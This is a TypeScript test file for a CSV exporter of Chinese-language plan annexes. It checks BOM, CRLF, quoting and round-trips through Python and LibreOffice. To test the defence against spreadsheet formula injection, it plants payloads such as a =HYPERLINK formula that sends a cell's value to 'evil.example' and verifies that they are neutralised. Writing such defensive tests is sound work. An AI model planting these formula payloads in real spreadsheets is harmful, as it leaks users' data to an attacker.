/**
 * The annexes as CSV (issue 14), read back by Python's csv module (Debian's python3, `utf-8-sig` and
 * plain `utf-8`): the header row, then each measure's row in plan order with every column whole (the
 * pillar on every row); the BOM there by default and gone with `bom: false`; CRLF between records;
 * embedded line breaks, quotes and commas round-trip; cells planted to start like formulas come back
 * with a `'` before them and are listed with their row, column and measure. LibreOffice, importing the
 * file as a spreadsheet does, makes a formula of a hand-written `=1+2` row but of none of ours.
 */
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { annexTable, type AnnexKind } from "../../src/core/annex/annexes";
import { measureCellText } from "../../src/core/workbook/planTable";
import { annexCsv, csvField, neutraliseFormula, startsLikeFormula, writeCsv } from "../../src/files/csvWrite";
import { DEBIAN_PYTHON, describeWithPackage, hasLibreOffice, hasOpenpyxl, python, SOFFICE } from "../support/debian";
import { annexFixture, withMeasures } from "./annexExportFixture";

const dir = fs.mkdtempSync(path.join(os.tmpdir(), "annex-csv-"));
const hasPython = spawnSync(DEBIAN_PYTHON, ["-c", "import csv"]).status === 0;

/** The file read by Python's csv module: its records, and whether its text (in the given codec) starts with U+FEFF. */
function readBack(bytes: Uint8Array, encoding: "utf-8-sig" | "utf-8", name = `f${Math.random().toString(36).slice(2)}.csv`) {
  const file = path.join(dir, name);
  fs.writeFileSync(file, bytes);
  return python(
    `import csv,json,sys
with open(sys.argv[1], newline="", encoding=sys.argv[2]) as f:
    text = f.read()
with open(sys.argv[1], newline="", encoding=sys.argv[2]) as f:
    rows = list(csv.reader(f, strict=True))
print(json.dumps({"rows": rows, "bom": text.startswith("\\ufeff")}))`,
    file,
    encoding,
  ) as { rows: string[][]; bom: boolean };
}

/** Record ends outside quoted fields: every one CRLF, none a lone CR or LF. */
function recordEnds(text: string): string[] {
  return [...text.replace(/"(?:[^"]|"")*"/g, "").matchAll(/\r\n|\r|\n/g)].map((m) => m[0]);
}

const CASES: [string, AnnexKind][] = [
  ["seed004", "results"],
  ["seed004", "measures"],
  ["seed000", "plan"],
];

describeWithPackage("python3", hasPython)("annexes as CSV, read by Python's csv module", () => {
  it.each(CASES)(
    "%s %s: a header row, then every measure's row in plan order, every column whole, with a BOM and CRLF",
    async (seed, kind) => {
      const { plan, framework, title } = await annexFixture(seed, kind);
      const table = annexTable(kind, plan, framework, title);
      const file = annexCsv(kind, plan, framework, title);
      expect([...file.bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(file.text.startsWith("\uFEFF")).toBe(true);
      const sig = readBack(file.bytes, "utf-8-sig");
      expect(sig.bom).toBe(false); // utf-8-sig took the BOM off: exactly one there
      expect(readBack(file.bytes, "utf-8").bom).toBe(true);
      expect(sig.rows[0]).toEqual(table.columns.map((c) => c.header));
      expect(sig.rows.slice(1)).toEqual(table.rows);
      expect(sig.rows).toHaveLength(plan.measures.length + 1);
      // One measure per row, in order, each whole; the pillar's text on every row, not only its first.
      const measureCol = table.columns.findIndex((c) => /具體/.test(c.header));
      const pillarCol = table.columns.findIndex((c) => c.header === "實施要領" || c.header === "執行要項");
      plan.measures.forEach((m, i) => {
        expect(sig.rows[i + 1][measureCol]).toContain(measureCellText(m));
        expect(sig.rows[i + 1][pillarCol]).not.toBe("");
        if (kind === "results") expect(sig.rows[i + 1][table.columns.length - 1]).toBe(m.results ?? "");
      });
      expect(new Set(sig.rows.slice(1).map((r) => r[pillarCol])).size).toBeLessThan(plan.measures.length);
      expect(recordEnds(file.text).every((e) => e === "\r\n")).toBe(true);
      expect(recordEnds(file.text)).toHaveLength(plan.measures.length + 1);
      // Seed cells with several units hold line breaks inside quoted fields: they came back above.
      expect(table.rows.some((r) => r.some((v) => v.includes("\n")))).toBe(true);
      expect(file.neutralised).toEqual([]);
      if (kind === "results") expect(sig.rows.some((r) => r[r.length - 1].includes("（尚未填報）"))).toBe(true);
    },
  );

  it("with bom: false the file starts with the header's first byte, and reads the same as plain UTF-8", async () => {
    const { plan, framework, title } = await annexFixture("seed004", "measures");
    const file = annexCsv("measures", plan, framework, title, { bom: false });
    expect(file.text.startsWith("項次,")).toBe(true);
    expect([...file.bytes.slice(0, 3)]).toEqual([...new TextEncoder().encode("項")]);
    const plain = readBack(file.bytes, "utf-8");
    expect(plain.bom).toBe(false);
    expect(plain.rows[0][0]).toBe("項次");
    expect(plain.rows).toEqual(readBack(annexCsv("measures", plan, framework, title).bytes, "utf-8-sig").rows);
  });

  it("neutralises cells a spreadsheet would run (=HYPERLINK, +886…, -1, @SUM, tab, CR, LF) with a ' and says which; line breaks, quotes and commas round-trip", async () => {
    const { plan: seedPlan, framework, title } = await annexFixture("seed004", "results");
    const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"點我")';
    const plan = withMeasures(seedPlan, {
      0: { units: [hyperlink], deadline: "+886-7-1234567" },
      1: { deadline: "-1", results: "@SUM(A1:A9)" },
      2: { units: ["\tcmd", "第二行"], results: '完成 "三場"，參加 120 人,\n第二行以 "=" 開頭也不算\r\n第三行' },
      3: { results: "\r=1+2" },
      4: { results: "\n=1+2" },
    });
    const measures = annexCsv("measures", plan, framework, title);
    const results = annexCsv("results", plan, framework, title);
    const m = readBack(measures.bytes, "utf-8-sig").rows;
    const r = readBack(results.bytes, "utf-8-sig").rows;
    // 附件一: 項次 | 實施要領 | 具體做法 | 負責業參 | 完成期限.
    expect(m[1][3]).toBe(`'${hyperlink}`);
    expect(m[1][4]).toBe("'+886-7-1234567");
    expect(m[2][4]).toBe("'-1");
    expect(m[3][3]).toBe("'\tcmd\n第二行");
    expect(measures.neutralised).toEqual([
      { row: 1, column: 3, header: "負責業參", text: hyperlink, measureId: plan.measures[0].id, source: plan.measures[0].source },
      { row: 1, column: 4, header: "完成期限", text: "+886-7-1234567", measureId: plan.measures[0].id, source: plan.measures[0].source },
      { row: 2, column: 4, header: "完成期限", text: "-1", measureId: plan.measures[1].id, source: plan.measures[1].source },
      { row: 3, column: 3, header: "負責業參", text: "\tcmd\n第二行", measureId: plan.measures[2].id, source: plan.measures[2].source },
    ]);
    // 附件二: 項次 | 實施要領 | 具體做法 | 執行成效; a formula-like start inside a cell is no start.
    expect(r[2][3]).toBe("'@SUM(A1:A9)");
    expect(r[3][3]).toBe('完成 "三場"，參加 120 人,\n第二行以 "=" 開頭也不算\r\n第三行');
    expect(r[4][3]).toBe("'\r=1+2");
    expect(r[5][3]).toBe("'\n=1+2");
    expect(results.neutralised.map((n) => [n.row, n.header, n.text])).toEqual([
      [2, "執行成效", "@SUM(A1:A9)"],
      [4, "執行成效", "\r=1+2"],
      [5, "執行成效", "\n=1+2"],
    ]);
    // Every other cell as it was.
    expect(r.slice(6)).toEqual(annexTable("results", plan, framework, title).rows.slice(5));
  });
});

describe("CSV pieces", () => {
  it("quotes a field only when it holds a comma, a quote, CR or LF, doubling its quotes", () => {
    expect(csvField("甲乙")).toBe("甲乙");
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("a\nb")).toBe('"a\nb"');
    expect(csvField("a\rb")).toBe('"a\rb"');
    expect(csvField("")).toBe("");
  });

  it("takes = + - @ tab CR LF NUL at the start as formulas, nothing else and nowhere else", () => {
    for (const s of ["=1", "+1", "-1", "@A", "\t=1", "\r1", "\n1", "\u00001"]) {
      expect(startsLikeFormula(s)).toBe(true);
      expect(neutraliseFormula(s)).toBe(`'${s}`);
    }
    for (const s of ["", "a=1", " =1", "１＝1", "'=1", "一、=1", "（-1）"]) {
      expect(startsLikeFormula(s)).toBe(false);
      expect(neutraliseFormula(s)).toBe(s);
    }
  });

  it("writes numbers as they are, booleans as Excel does (TRUE), empty cells empty, pads short rows, and ends every record with CRLF", () => {
    const file = writeCsv([["a", "b", "c"], [-1, true, null], ["x"]], { bom: false });
    expect(file.text).toBe("a,b,c\r\n-1,TRUE,\r\nx,,\r\n");
    expect(file.neutralised).toEqual([]);
    expect(writeCsv([]).text).toBe("\uFEFF");
  });
});

describeWithPackage("libreoffice-calc-nogui, python3-openpyxl", hasLibreOffice() && hasOpenpyxl())("a spreadsheet opening the CSV", () => {
  it("LibreOffice makes a formula of a raw =1+2 but keeps every neutralised cell as text", async () => {
    const { plan: seedPlan, framework, title } = await annexFixture("seed004", "measures");
    const plan = withMeasures(seedPlan, {
      0: { units: ['=HYPERLINK("http://evil.example/","x")'], deadline: "+3+4" },
      1: { units: ["@SUM(1,2)"], deadline: "-1" },
      2: { deadline: "=1+2" },
    });
    const ours = annexCsv("measures", plan, framework, title);
    expect(ours.neutralised).toHaveLength(5);
    // The control: the same header and a raw "=1+2" as a naive writer would leave it.
    const control = new TextEncoder().encode("\uFEFF項次,完成期限\r\n一,=1+2\r\n");
    const cells = (bytes: Uint8Array, name: string) => {
      const csv = path.join(dir, `${name}.csv`);
      fs.writeFileSync(csv, bytes);
      const r = spawnSync(
        SOFFICE,
        [
          `-env:UserInstallation=file://${dir}/lo-profile`,
          "--headless",
          "--infilter=CSV:44,34,76,1",
          "--convert-to",
          "xlsx",
          "--outdir",
          dir,
          csv,
        ],
        { encoding: "utf8", timeout: 120_000 },
      );
      if (r.status !== 0) throw new Error(r.stderr);
      return python(
        `import json,sys,openpyxl
ws=openpyxl.load_workbook(sys.argv[1]).active
print(json.dumps([[c.value if c.value is None or isinstance(c.value,str) else repr(c.value), c.data_type] for row in ws.iter_rows() for c in row]))`,
        path.join(dir, `${name}.xlsx`),
      ) as [string | null, string][];
    };
    expect(cells(control, "control")).toContainEqual(["=1+2", "f"]);
    const read = cells(ours.bytes, "ours");
    expect(read.filter(([, type]) => type === "f")).toEqual([]);
    for (const n of ours.neutralised) expect(read).toContainEqual([`'${n.text}`, "s"]);
  }, 120_000);
});
